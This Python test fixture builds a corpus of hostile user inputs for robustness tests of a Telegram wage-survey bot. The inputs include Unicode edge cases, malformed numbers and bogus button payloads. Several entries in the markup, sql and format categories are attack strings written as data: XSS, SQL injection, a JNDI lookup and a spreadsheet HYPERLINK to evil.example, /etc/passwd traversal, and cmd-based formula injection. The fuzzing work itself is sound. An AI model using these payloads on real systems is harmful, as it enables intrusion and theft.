"""A corpus of hostile worker input for tests/test_hostile_input.py: curated cases by category,
plus deterministic generated ones (random text over all of Unicode, number-like strings).

Python rather than YAML because the corpus needs what YAML cannot carry cleanly: lone
surrogates, NUL bytes and other control characters. Each entry is what a channel adapter hands
the service: typed text, a button payload, a non-text message (media), an edited message, an
unknown /command or a bare /start.

    from tests.hostile_corpus import CORPUS, by_category
"""

from __future__ import annotations

import random
from collections import defaultdict
from dataclasses import dataclass
from typing import Literal

Kind = Literal["text", "button", "media", "edited", "unknown_command", "start"]


@dataclass(frozen=True)
class Hostile:
    """One hostile input; `value` is the text, the payload or the media kind, by `kind`."""

    category: str
    kind: Kind
    value: str

    def __repr__(self) -> str:  # short ids in assertion messages
        shown = self.value if len(self.value) <= 40 else f"{self.value[:37]}…({len(self.value)})"
        return f"<{self.category}/{self.kind} {shown!r}>"


# Bidi and zero-width characters keyboards (and attackers) insert.
INVISIBLE = [
    "\u200b",  # zero width space
    "\u200c",  # zero width non-joiner
    "\u200d",  # zero width joiner
    "\u200e",  # left-to-right mark
    "\u200f",  # right-to-left mark
    "\u202a",  # left-to-right embedding
    "\u202b",  # right-to-left embedding
    "\u202c",  # pop directional formatting
    "\u202d",  # left-to-right override
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\u2067",  # right-to-left isolate
    "\u2068",  # first strong isolate
    "\u2069",  # pop directional isolate
    "\u061c",  # Arabic letter mark
    "\ufeff",  # byte order mark
    "\u00ad",  # soft hyphen
    "\u2060",  # word joiner
    "\u180e",  # Mongolian vowel separator
]

# One digit string per script: Latin, Arabic-Indic, Extended Arabic-Indic (Urdu), Devanagari,
# Bengali, fullwidth, mathematical bold.
DIGIT_SCRIPTS = {
    "latin": "0123456789",
    "arabic_indic": "٠١٢٣٤٥٦٧٨٩",
    "extended_arabic_indic": "۰۱۲۳۴۵۶۷۸۹",
    "devanagari": "०१२३४५६७८९",
    "bengali": "০১২৩৪৫৬৭৮৯",
    "fullwidth": "０１２３４５６７８９",
    "math_bold": "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗",
}


def _in_script(number: str, script: str) -> str:
    digits = DIGIT_SCRIPTS[script]
    return "".join(digits[int(c)] if c.isdigit() else c for c in number)


def _mixed_scripts(number: str, rng: random.Random) -> str:
    """Every digit in a script picked at random (Latin, Arabic-Indic, Urdu, Devanagari)."""
    scripts = ["latin", "arabic_indic", "extended_arabic_indic", "devanagari"]
    return "".join(_in_script(c, rng.choice(scripts)) if c.isdigit() else c for c in number)


def _curated() -> list[Hostile]:
    rng = random.Random(4096)
    out: list[Hostile] = []

    def add(category: str, *values: str, kind: Kind = "text") -> None:
        out.extend(Hostile(category, kind, v) for v in values)

    # ------------------------------------------------------------------ long messages
    add(
        "long",
        "x" * 4096,
        "x" * 4097,
        "۳" * 4096,
        "ہاں " * 1024,
        "😀" * 2048,  # 4,096 UTF-16 code units: Telegram's limit exactly
        "😀" * 4096,
        "yes" + " " * 4093,
        " " * 4093 + "yes",
        "38000" + "\u200b" * 4091,
        "1" * 4096,
        "1," * 2048,
        "a" * 10_000,
        ("Helper " * 600)[:4096],
        "\u200f" * 4096,
        "\u202e" * 4096,
        "é" * 4096,  # e + combining acute: 8,192 code points that NFC halves
        "👨‍👩‍👧‍👦" * 600,
        "ن" * 65_536,
        "A" * 1_000_000,
    )
    # ------------------------------------------------------------------ invisible characters
    for ch in INVISIBLE:
        add("invisible", ch, ch * 3, f"{ch}yes{ch}", f"{ch}38000", f"help{ch}", f"1{ch}")
    add(
        "invisible",
        "y\u200be\u200bs",
        "\u202eon\u202c",  # "no" reversed by an override
        "\u202eseY",
        "\u2067ہاں\u2069",
        "\u200f۳۸٬۰۰۰\u200f",
        "\u2066Helper\u2069",
        "\u202a1\u202c,\u202a3\u202c",
        "\ufeff/start",
        "\u200b" * 64,
    )
    # ------------------------------------------------------------------ digit scripts
    for number in ("38000", "38,000", "1,00,000", "15000", "4000", "500000", "1", "2", "3"):
        for script in DIGIT_SCRIPTS:
            add("digits", _in_script(number, script))
        for _ in range(3):
            add("digits", _mixed_scripts(number, rng))
    add(
        "digits",
        "3٨۰0۰",
        "۳8٠٠0",
        "३८०००",
        "३८,०००",
        "٣٨٬٠٠٠",
        "۳۸٫۵",
        "١e٥",
        "٣٨٠٠٠ روپے",
        "۱۲۳۴۵۶۷۸۹۰۱۲۳۴۵۶۷۸۹۰",
        "𝟑𝟖𝟎𝟎𝟎",
        "３８０００",
        "³⁸⁰⁰⁰",  # superscripts: digits, but not decimal digits
        "⑶⑻",
        "Ⅻ",
        "三万八千",
    )
    # ------------------------------------------------------------------ numbers
    add(
        "numbers",
        "-38000",
        "−38000",
        "- 38000",
        "-1",
        "-0",
        "0",
        "00000",
        "0.0001",
        ".5",
        "5.",
        "38000.5",
        "38,000.75",
        "38000.499999999999999999",
        "3.8e4",
        "3.8E4",
        "1e400",
        "-1e400",
        "1e308",
        "1e-400",
        "10^30",
        "10**30",
        "1" + "0" * 30,
        "9" * 20,
        "99999999999999999999",
        "18446744073709551616",
        "9223372036854775808",
        "-9223372036854775809",
        "1" + "0" * 400,
        "NaN",
        "nan",
        "inf",
        "-inf",
        "Infinity",
        "0x9470",
        "0b101",
        "0o777",
        "38_000",
        "+38000",
        "38000-",
        "(38000)",
        "38000/-",
        "Rs. 38,000/- only",
        "PKR -38000",
        "1,00,00,00,00,000",
        "999999k",
        "999999999 crore",
        "5 lakh",
        "0.5 lakh",
        "1 crore",
        "38000 40000",
        "38000-40000",
        "38000\n40000",
        "38,00,0",
        "3,8000",
        "1.000,50",
        "25.000",
        "25.00",
        "½",
        "38000½",
        "٣٨٠٠٠٫٥",
        "12:30",
        "2026-10",
        "10/2026",
        "1e5k",
    )
    # ------------------------------------------------------------------ emoji
    add(
        "emoji",
        "😀",
        "👍",
        "👍🏽",
        "👎🏿",
        "✅",
        "❌",
        "❓",
        "🤷‍♀️",
        "👨‍👩‍👧‍👦",
        "👩🏽‍🏭",
        "🏳️‍🌈",
        "🇵🇰",
        "1️⃣",
        "3️⃣8️⃣0️⃣0️⃣0️⃣",
        "#️⃣",
        "❤️" * 500,
        "🙂" * 16,
        "👍👎",
        "✔️",
        "☑️",
        "🆗",
        "💵💵💵",
        "\U0001f9d1\u200d\U0001f4bb",
        "\U000e0067\U000e0062",  # tag characters
        "🫠",
    )
    # ------------------------------------------------------------------ markup
    add(
        "markup",
        "<b>bold</b>",
        "<script>alert(1)</script>",
        "<a href='tg://user?id=1'>x</a>",
        '<img src=x onerror="alert(1)">',
        "</pre><pre>",
        "<tg-spoiler>x</tg-spoiler>",
        "<",
        "&lt;&amp;&gt;",
        "*bold* _italic_ `code` [link](http://example.com)",
        "```\ncode\n```",
        "||spoiler||",
        "_*[]()~`>#+-=|{}.!",
        "\\",
        "[yes](https://example.com)",
        "@WageCheckBot",
        "#yes",
        "http://evil.example/x?a=1&b=2",
        "tg://resolve?domain=WageCheckBot&start=join_XXXX",
        "javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        '=HYPERLINK("http://evil.example","x")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    )
    # ------------------------------------------------------------------ SQL-looking text
    add(
        "sql",
        "'; DROP TABLE answers; --",
        "1 OR 1=1",
        "1' OR '1'='1",
        '" OR ""="',
        "Robert'); DROP TABLE students;--",
        "38000; DELETE FROM responses",
        "1; SELECT * FROM conversations",
        "%' OR '1'='1",
        "' UNION SELECT key, state FROM conversations --",
        "$$; DROP TABLE x; $$",
        "E'\\x00'",
        "\\x00",
        "NULL",
        "null",
        "None",
        "undefined",
        "true",
        "{}",
        "[]",
        '{"a": 1}',
        "']]>",
        "${jndi:ldap://evil.example/a}",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
    )
    # ------------------------------------------------------------------ format strings
    add(
        "format",
        "{0}",
        "{}",
        "{{}}",
        "}{",
        "{",
        "%s",
        "%d",
        "%%",
        "%",
        "%(name)s",
        "%n%n%n",
        "%x%x%x%x",
        "{code}",
        "{factory}",
        "{month}",
        "{min}",
        "{max}",
        "{value}",
        "{example}",
        "{answer}",
        "{0!r}",
        "{__class__}",
        "{0.__class__.__mro__}",
        "{factory.__init__.__globals__}",
        "{{1}}",
        "$1",
        "\\1",
        "\\u0000",
    )
    # ------------------------------------------------------------------ control characters
    add(
        "control",
        "\x00",
        "a\x00b",
        "\x00" * 100,
        "yes\x00",
        "\x00yes",
        "38000\x00",
        "1\x00",
        "\x07",
        "\x08" * 10,
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\r",
        "\r\n",
        "\n\n\n",
        "\t",
        "\x0b\x0c",
        "\x7f",
        "\x85",
        "\x9b",
        "\u2028",
        "\u2029",
        "hello\x00world\x01\x02\x03",
        "".join(chr(c) for c in range(32)),
        "".join(chr(c) for c in range(0x7F, 0xA0)),
        "\ufffd",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ue000",  # private use
        "\U000f0000",
    )
    # ------------------------------------------------------------------ empty and whitespace
    add(
        "empty",
        "",
        " ",
        "   ",
        "\n",
        "\u00a0",
        "\u3000",
        "\u2003",
        "\u2007",
        "\u202f",
        "\t\t",
        "\u115f",  # Hangul filler (a letter that shows nothing)
        "\u3164",
        "\u2800",  # braille blank
        ".",
        "...",
        "-",
        "?!",
        "۔",
        "،",
    )
    # ------------------------------------------------------------------ right-to-left text
    add(
        "rtl",
        "میں ہیلپر ہوں",
        "مجھے تنخواہ نہیں ملی",
        "نَعَم",
        "شكرا",
        "שלום",
        "yes ہاں",
        "نہیں yes",
        "ہاں نہیں",
        "۳۸۰۰۰ تومان",
        "هائو",
        "ها",
        "مهرباني",
        "بالکل نہیں",
        "ہاں\u200fجی",
        "ہیلپر",
        "مشین آپریٹر",
        "اکتوبر ۲۰۲۶",
        "آڪٽوبر 2026",
        "ہاں" * 300,
        "ـــــ",  # tatweel only
    )
    # ------------------------------------------------------------------ lone surrogates
    add(
        "surrogate",
        "\ud800",
        "\udfff",
        "\udc00yes",
        "a\ud83d",
        "\ud83d\ude00",  # a pair as two code points, as a broken client might send it
        "38000\ud800",
        "\ud800" * 100,
        "hi \udfff there",
    )
    # ------------------------------------------------------------------ look-alikes
    add(
        "lookalike",
        "уеs",  # Cyrillic u, ie
        "ｙｅｓ",
        "𝐲𝐞𝐬",
        "Yes",
        "YES",
        "yEs",
        "y̸̢̛e̷s̵",
        "ʏᴇs",
        "nо",  # Cyrillic o
        "НЕТ",
        "HELP",
        "Back.",
        "helper",
        "Helper!",
        "HELPER",
        "machine",
        "contract",
        "ok",
        "OK",
        "skip",
        "Skip",
        "done",
        "Done",
        "next",
        "cancel",
        "quit",
        "exit",
        "admin",
        "sudo",
    )
    # ---------------------------------------------------------- plausible answers out of place
    add(
        "out_of_place",
        "yes",
        "no",
        "1",
        "2",
        "3",
        "4",
        "5",
        "0",
        "99",
        "-1",
        "1,2,3,4",
        "1 1 1",
        "1,1",
        "1-3",
        "all",
        "English",
        "ur",
        "sd",
        "nl",
        "xx",
        "اردو",
        "سنڌي",
        "October 2026",
        "2026-10",
        "38000",
        "woman",
        "cash",
        "K7M4QP",
        "ZZZZZZ",
        "join_ABCDEFGHJKMN",
        "abc-def",
        "+923001234567",
        "0300-1234567",
        "42101-1234567-1",
        "my number is 03001234567",
    )
    # ------------------------------------------------------------------ commands (typed)
    commands = [
        "/admin",
        "/close 1",
        "/close",
        "/report",
        "/report 1",
        "/report 99999999999999999999",
        "/rounds",
        "/round 1",
        "/extend 1 90",
        "/join join_AAAAAAAAAAAA",
        "/whoami",
        "/subscribe",
        "/unsubscribe",
        "/start@OtherBot",
        "/help@WageCheckBot",
        "/",
        "//",
        "/ start",
        "/START",
        "/delete_everything",
        "/back back",
        "/" + "a" * 64,
        "/start " + "Z" * 64,
        "/start join_",
        "/stop@WageCheckBot extra",
        "/رکیں",
        "/مدد",
        "/\u200bhelp",
        "/help\x00",
    ]
    add("command", *commands)
    # What the Telegram adapter makes of a /command it does not know.
    add("command", *commands[:12], kind="unknown_command")
    # The worker's command words, which move the conversation (the test walks back).
    add("command", "help", "back", "restart", "language", "stop", "delete", "مدد", "واپس")
    # ----------------------------------------------------------- button payloads never offered
    add(
        "payload",
        "a:job:99",
        "a:job:",
        "a:job:helper:extra",
        "a:job:HELPER",
        "a:job:helper\x00",
        "a:job:" + "x" * 58,  # 64 bytes
        "a:job:" + "x" * 200,
        "a:pay_month:1999-01",
        "a:pay_month:2026-13",
        "a:pay_month:9999-12",
        "a:pay_month:2026-09",  # a month another round offered
        "a:pay_month:2026-12",  # a month not yet over
        "a:pay_month:2026-1",
        "a:pay_month:-1",
        "a:pay:38000",  # a number by button
        "a:pay:-1",
        "a:pay:1e400",
        "a:pay:_ok",
        "a:pay:_retry",
        "a:pay:_skip",
        "a:comment:hello",  # free text by button
        "a:comment:_skip",
        "a:consent:maybe",
        "a:consent:yes",
        "a:language:nl",
        "a:language:xx",
        "a:language:",
        "a:factory:yes",
        "a:factory:K7M4QP",
        "a:full_month:dont_know",  # not offered on that question
        "a:payslip:dont_know",
        "a:gender:woman",
        "a:gender:_skip",
        "a:contact_opt_in:yes",
        "a:payment_method:cash",
        "a:payment_method:_done",
        "a:payment_method:cash,bank",
        "t:job:helper",
        "t:payment_method:cash",
        "t:payment_method:bitcoin",
        "t:payment_method:",
        "t:resume",
        "t:start:ZZZZZZ",
        "t:start:" + "Z" * 56,
        "w:resume",
        "w:start:ZZZZZZ",
        "x:delete:yes",
        "x:delete:no",
        "x:delete:maybe",
        "c:help",
        "c:back",
        "c:restart",
        "c:delete",
        "c:stop",
        "c:language",
        "c:bogus",
        "c:",
        "",
        ":",
        "::",
        ":::",
        "a::",
        "a:q_from_version_2:yes",
        "lang:ur",
        "r:1",
        "\x00",
        "🙂" * 16,  # 64 bytes of UTF-8
        "a" * 64,
        "garbage",
        "%s:%s:%s",
        "{0}:{1}:{2}",
        "a:job:helper' OR '1'='1",
        "a:\ud800:yes",
        kind="button",
    )
    # ------------------------------------------------------------------ non-text messages
    for media in (
        "voice",
        "audio",
        "video",
        "video_note",
        "photo",
        "image",
        "sticker",
        "animation",
        "document",
        "location",
        "venue",
        "contact",
        "contacts",
        "poll",
        "dice",
        "game",
        "story",
        "reaction",
        "unsupported",
        "interactive:nfm_reply",
        "interactive:call_permission_reply",
        "order",
        "other",
        "",
    ):
        add("media", media, kind="media")
    for text in ("3", "yes", "38000", "", "\ud800", "x" * 4096, "/close 1", "back"):
        add("edited", text, kind="edited")
    add("start", "", kind="start")
    return out


# ---------------------------------------------------------------------- generated
# Characters drawn from everywhere, with the interesting regions over-represented.
_REGIONS = [
    (0x00, 0x7F),  # ASCII, control characters included
    (0x80, 0x2FF),
    (0x600, 0x6FF),  # Arabic script (Urdu, Sindhi)
    (0x750, 0x77F),
    (0x900, 0x97F),  # Devanagari
    (0x2000, 0x206F),  # punctuation, bidi and zero-width
    (0xD800, 0xDFFF),  # surrogates
    (0xFB50, 0xFDFF),  # Arabic presentation forms
    (0xFE70, 0xFEFF),
    (0xFF00, 0xFFFF),
    (0x1F300, 0x1FAFF),  # emoji
    (0x0, 0x10FFFF),  # anything
]
_NUMBER_PARTS = [
    *"0123456789",
    *DIGIT_SCRIPTS["arabic_indic"],
    *DIGIT_SCRIPTS["extended_arabic_indic"],
    *DIGIT_SCRIPTS["devanagari"],
    ",",
    ".",
    "٬",
    "٫",
    "،",
    " ",
    "'",
    "-",
    "−",
    "+",
    "e",
    "E",
    "k",
    " lakh",
    " crore",
    "Rs ",
    " روپے",
    "/-",
    "\u200f",
    "\u200b",
]


def _random_text(rng: random.Random) -> str:
    length = rng.choice([1, 1, 2, 3, 5, 8, 13, 40, 64, 65, 200, 1025])
    chars = []
    for _ in range(length):
        low, high = rng.choice(_REGIONS)
        chars.append(chr(rng.randint(low, high)))
    return "".join(chars)


def _number_like(rng: random.Random) -> str:
    return "".join(rng.choice(_NUMBER_PARTS) for _ in range(rng.randint(1, 24)))


def _generated(count: int = 640, seed: int = 20261129) -> list[Hostile]:
    rng = random.Random(seed)
    out = []
    for i in range(count):
        if i % 2:
            out.append(Hostile("generated_number", "text", _number_like(rng)))
        else:
            out.append(Hostile("generated_text", "text", _random_text(rng)))
    return out


CURATED: list[Hostile] = _curated()
GENERATED: list[Hostile] = _generated()
CORPUS: list[Hostile] = CURATED + GENERATED


def by_category() -> dict[str, list[Hostile]]:
    groups: dict[str, list[Hostile]] = defaultdict(list)
    for entry in CORPUS:
        groups[entry.category].append(entry)
    return dict(groups)


def stratified_sample(size: int, seed: int) -> list[Hostile]:
    """`size` entries, taken round-robin over the categories (shuffled within each)."""
    rng = random.Random(seed)
    groups = [rng.sample(g, len(g)) for g in by_category().values()]
    rng.shuffle(groups)
    out: list[Hostile] = []
    while len(out) < size and any(groups):
        for g in groups:
            if g and len(out) < size:
                out.append(g.pop())
    return out


__all__ = [
    "CORPUS",
    "CURATED",
    "GENERATED",
    "Hostile",
    "by_category",
    "stratified_sample",
]
